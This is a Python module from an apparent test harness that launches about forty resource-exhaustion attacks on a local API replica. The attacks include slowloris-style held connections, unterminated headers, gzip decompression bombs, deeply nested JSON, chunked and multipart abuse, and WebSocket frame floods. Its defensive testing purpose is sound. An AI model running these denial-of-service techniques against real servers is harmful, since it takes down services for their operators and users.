"""Attacks that try to exhaust an API replica: memory, connections, streams, or the time of its event loop.

    python -m bench.support.guard.exhaustion_attacks NAME SECONDS < TARGET

TARGET is the JSON of `Target`. An attack repeats itself on a few connections until its time is over. Then the process
exits and closes all of them. It prints how many connections it opened.
"""

import asyncio
import gzip
import json
import os
import sys
import time
from collections.abc import Awaitable, Callable, Iterable
from contextlib import suppress
from dataclasses import dataclass
from itertools import count
from typing import Final

_AT_ONCE: Final = 6
_PAUSE: Final = 0.1
"""Seconds between two tries on a connection. The attacks are cheap: any server can be kept busy by enough requests."""
_BATCH: Final = 30
_PIECE: Final = b"a" * 60_000
_SOCKET: Final = (
    "connection: upgrade\r\nupgrade: websocket\r\n"
    "sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
)
_FORM: Final = "content-type: multipart/form-data; boundary=x\r\n"
_ADDRESS: Final = "127.0.0.66"
"""The address that attackers connect from. Honest clients have another one."""


@dataclass(frozen=True, slots=True)
class Target:
    port: int
    key: str
    session_id: str

    def head(self, method: str, path: str, more: str = "", *, with_key: bool = True) -> bytes:
        key = f"x-api-key: {self.key}\r\n" if with_key else ""
        return f"{method} {path} HTTP/1.1\r\nhost: 127.0.0.1\r\n{key}{more}\r\n".encode()

    def post(self, path: str, body: bytes, more: str = "", *, with_key: bool = True) -> bytes:
        return self.head("POST", path, f"content-length: {len(body)}\r\n{more}", with_key=with_key) + body

    @property
    def stream(self) -> str:
        return f"/v1/sessions/{self.session_id}/events/stream"

    @property
    def events(self) -> str:
        return f"/v1/sessions/{self.session_id}/events"


Attack = Callable[[Target, float], Awaitable[None]]
Pieces = Callable[[], Iterable[bytes]]
ATTACKS: Final[dict[str, Attack]] = {}
WITH_KEY: Final[set[str]] = set()


def _attack(*, with_key: bool) -> Callable[[Attack], Attack]:
    def register(attack: Attack) -> Attack:
        name = attack.__name__
        ATTACKS[name] = attack
        if with_key:
            WITH_KEY.add(name)
        return attack

    return register


# Techniques


async def _connect(target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    opened = await asyncio.open_connection("127.0.0.1", target.port, local_addr=(_ADDRESS, 0))
    _connections.append(time.monotonic())
    return opened


async def _repeat(target: Target, until: float, pieces: Pieces, *, at_once: int = _AT_ONCE) -> None:
    """Sends a request repeatedly on new connections, each until the server closes it or responds."""

    async def one() -> None:
        while time.monotonic() < until:
            with suppress(OSError, TimeoutError):
                reader, writer = await _connect(target)
                with suppress(OSError, TimeoutError):
                    async with asyncio.timeout_at(_loop_time(until)):
                        for piece in pieces():
                            writer.write(piece)
                            await writer.drain()
                        await reader.read(1)
                writer.transport.abort()
            await asyncio.sleep(_PAUSE)

    await asyncio.gather(*(one() for _ in range(at_once)))


async def _hold(
    target: Target, until: float, first: bytes, *, drip: bytes = b"", connections: int, read: bool = True
) -> None:
    """Opens many connections, and holds each for as long as the server allows."""

    async def one() -> None:
        with suppress(OSError, TimeoutError):
            reader, writer = await _connect(target)
            writer.write(first)
            if not read:
                reader._transport.pause_reading()  # pyrefly: ignore[missing-attribute]
            while time.monotonic() < until:
                await asyncio.sleep(0.5)
                writer.write(drip)

    for start in range(0, connections, _BATCH):
        if time.monotonic() > until:
            break
        held.extend(asyncio.create_task(one()) for _ in range(min(_BATCH, connections - start)))
        await asyncio.sleep(_PAUSE)
    await asyncio.sleep(max(0, until - time.monotonic()))


held: list[asyncio.Task[None]] = []
_connections: list[float] = []


def _loop_time(until: float) -> float:
    return asyncio.get_running_loop().time() + max(0.1, until - time.monotonic())


def _frame(opcode: int, payload: bytes, *, final: bool = True) -> bytes:
    """Encodes a WebSocket frame of a client, masked with zeros."""
    size = len(payload)
    length = bytes([0x80 | size]) if size < 126 else b"\xfe" + size.to_bytes(2, "big")
    return bytes([(0x80 if final else 0) | opcode]) + length + bytes(4) + payload


# Without a key


@_attack(with_key=False)
async def headers_without_end(target: Target, until: float) -> None:
    await _repeat(
        target, until, lambda: (b"GET /livez HTTP/1.1\r\n", *(b"x-%d: %s\r\n" % (n, _PIECE) for n in range(1500)))
    )


@_attack(with_key=False)
async def one_header_without_end(target: Target, until: float) -> None:
    await _repeat(target, until, lambda: (b"GET /livez HTTP/1.1\r\nx: ", *[_PIECE] * 1500))


@_attack(with_key=False)
async def many_small_headers(target: Target, until: float) -> None:
    await _repeat(target, until, lambda: (b"GET /livez HTTP/1.1\r\n", *[b"x: y\r\n" * 10_000] * 100))


@_attack(with_key=False)
async def address_without_end(target: Target, until: float) -> None:
    await _repeat(target, until, lambda: (b"GET /", *[_PIECE] * 1500))


@_attack(with_key=False)
async def half_open_connections(target: Target, until: float) -> None:
    await _hold(target, until, b"GET /livez HTTP/1.1\r\nhost: localhost\r\n", connections=350)


@_attack(with_key=False)
async def silent_connections(target: Target, until: float) -> None:
    await _hold(target, until, b"", connections=1_500)


@_attack(with_key=False)
async def headers_byte_by_byte(target: Target, until: float) -> None:
    await _hold(target, until, b"GET /livez HTTP/1.1\r\nx: ", drip=b"a", connections=300)


@_attack(with_key=False)
async def blank_lines(target: Target, until: float) -> None:
    await _hold(target, until, b"\r\n", drip=b"\r\n", connections=300)


@_attack(with_key=False)
async def new_connections(target: Target, until: float) -> None:
    await _repeat(target, until, lambda: [target.head("GET", "/livez", with_key=False)])


@_attack(with_key=False)
async def pipelined_requests(target: Target, until: float) -> None:
    await _repeat(target, until, lambda: [target.head("GET", "/livez", with_key=False) * 1_000] * 20)


@_attack(with_key=False)
async def unread_responses(target: Target, until: float) -> None:
    await _hold(target, until, target.head("GET", "/openapi.json", with_key=False) * 16, connections=100, read=False)


@_attack(with_key=False)
async def requests_that_are_not_http(target: Target, until: float) -> None:
    await _repeat(target, until, lambda: [os.urandom(20_000)])


@_attack(with_key=False)
async def unknown_keys(target: Target, until: float) -> None:
    stranger = Target(target.port, "fp_unknown", target.session_id)
    await _repeat(target, until, lambda: [stranger.head("GET", "/v1/agents")])


@_attack(with_key=False)
async def large_body_without_key(target: Target, until: float) -> None:
    head = target.head("POST", target.events, "content-length: 30000000\r\n", with_key=False)
    await _repeat(target, until, lambda: (head, *[_PIECE] * 500))


@_attack(with_key=False)
async def slow_body_without_key(target: Target, until: float) -> None:
    head = target.head("POST", "/v1/files", "content-length: 30000000\r\n", with_key=False)
    await _hold(target, until, head, drip=b"a", connections=300)


@_attack(with_key=False)
async def socket_handshakes(target: Target, until: float) -> None:
    path = f"/v1/sessions/{target.session_id}/ws"
    await _repeat(target, until, lambda: [target.head("GET", path, _SOCKET, with_key=False)])


@_attack(with_key=False)
async def large_socket_handshakes(target: Target, until: float) -> None:
    more = _SOCKET + "".join(f"x-{n}: {'a' * 100}\r\n" for n in range(400))
    await _repeat(target, until, lambda: [target.head("GET", f"/v1/sessions/{target.session_id}/ws", more)])


# With a key


@_attack(with_key=True)
async def empty_objects(target: Target, until: float) -> None:
    body = b'{"name":"a","model":"m","tools":[' + b"{}," * 10_000_000 + b"{}]}"
    await _repeat(target, until, lambda: [target.post("/v1/agents", body)], at_once=2)


@_attack(with_key=True)
async def empty_objects_in_messages(target: Target, until: float) -> None:
    body = b'{"events":[' + b"{}," * 10_000_000 + b"{}]}"
    await _repeat(target, until, lambda: [target.post(target.events, body)], at_once=2)


@_attack(with_key=True)
async def deep_json(target: Target, until: float) -> None:
    body = b'{"name":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}"
    await _repeat(target, until, lambda: [target.post("/v1/agents", body)], at_once=2)


@_attack(with_key=True)
async def unknown_fields(target: Target, until: float) -> None:
    body = b"{" + b",".join(b'"k%d":0' % n for n in range(200_000)) + b"}"
    await _repeat(target, until, lambda: [target.post("/v1/agents", body)], at_once=2)


@_attack(with_key=True)
async def many_large_messages(target: Target, until: float) -> None:
    head = target.head("POST", target.events, "content-length: 31000000\r\n")
    await _hold(target, until, head + b" " * 8_000_000, drip=b" " * 2_000, connections=20)


@_attack(with_key=True)
async def many_streams(target: Target, until: float) -> None:
    await _hold(target, until, target.head("GET", target.stream), connections=1_000)


@_attack(with_key=True)
async def streams_with_requests_behind(target: Target, until: float) -> None:
    requests = target.head("GET", target.stream) + target.head("GET", "/livez") * 10
    await _repeat(target, until, lambda: [requests])


@_attack(with_key=True)
async def compressed_bomb(target: Target, until: float) -> None:
    body = gzip.compress(bytes(20_000_000))
    await _repeat(target, until, lambda: [target.post("/v1/agents", body, "content-encoding: gzip\r\n")])


@_attack(with_key=True)
async def many_parts(target: Target, until: float) -> None:
    part = b'--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n'
    request = target.post("/v1/files", part * 100_000, _FORM)
    await _repeat(target, until, lambda: [request])


@_attack(with_key=True)
async def part_header_without_end(target: Target, until: float) -> None:
    head = target.head(
        "POST", "/v1/files", "content-type: multipart/form-data; boundary=x\r\ncontent-length: 60000000\r\n"
    )
    await _repeat(target, until, lambda: (head, b"--x\r\nx: ", *[_PIECE] * 900))


@_attack(with_key=True)
async def slow_bodies(target: Target, until: float) -> None:
    head = target.head("POST", target.events, "content-length: 1000000\r\n")
    await _hold(target, until, head, drip=b" ", connections=300)


@_attack(with_key=True)
async def trailers_without_end(target: Target, until: float) -> None:
    head = target.head("POST", "/v1/agents", "transfer-encoding: chunked\r\n") + b"1\r\n{\r\n0\r\n"
    await _repeat(target, until, lambda: (head, *(b"x-%d: %s\r\n" % (n, _PIECE) for n in range(900))))


@_attack(with_key=True)
async def chunk_extension_without_end(target: Target, until: float) -> None:
    head = target.head("POST", "/v1/agents", "transfer-encoding: chunked\r\n") + b"1;"
    await _repeat(target, until, lambda: (head, *[_PIECE] * 900))


@_attack(with_key=True)
async def small_chunks(target: Target, until: float) -> None:
    head = target.head("POST", "/v1/agents", "transfer-encoding: chunked\r\n")
    await _repeat(target, until, lambda: (head, *[b"1\r\n \r\n" * 10_000] * 30), at_once=2)


@_attack(with_key=True)
async def large_cursors(target: Target, until: float) -> None:
    await _repeat(target, until, lambda: [target.head("GET", f"/v1/agents?page={'W' * 60_000}")])


@_attack(with_key=True)
async def many_query_fields(target: Target, until: float) -> None:
    query = "&".join(f"types[]={n}" for n in range(4_000))
    await _repeat(target, until, lambda: [target.head("GET", f"{target.events}?{query}")], at_once=2)


@_attack(with_key=True)
async def socket_pings(target: Target, until: float) -> None:
    head = target.head("GET", f"/v1/sessions/{target.session_id}/ws", _SOCKET)
    await _repeat(target, until, lambda: (head, *[_frame(9, b"a" * 100) * 1_000] * 50))


@_attack(with_key=True)
async def socket_fragments(target: Target, until: float) -> None:
    head = target.head("GET", f"/v1/sessions/{target.session_id}/ws", _SOCKET)
    fragments = (_frame(1 if n == 0 else 0, b"", final=False) for n in count())
    await _repeat(target, until, lambda: (head, *(b"".join(next(fragments) for _ in range(1_000)) for _ in range(50))))


@_attack(with_key=True)
async def large_socket_messages(target: Target, until: float) -> None:
    head = target.head("GET", f"/v1/sessions/{target.session_id}/ws", _SOCKET)
    await _repeat(target, until, lambda: (head, *[_frame(2, _PIECE, final=False)] * 100))


async def _main(name: str, seconds: float, target: Target) -> None:
    await ATTACKS[name](target, time.monotonic() + seconds)


if __name__ == "__main__":
    os.nice(19)  # an attacker would use another machine's CPU
    asyncio.run(_main(sys.argv[1], float(sys.argv[2]), Target(**json.load(sys.stdin))))
    print(len(_connections))
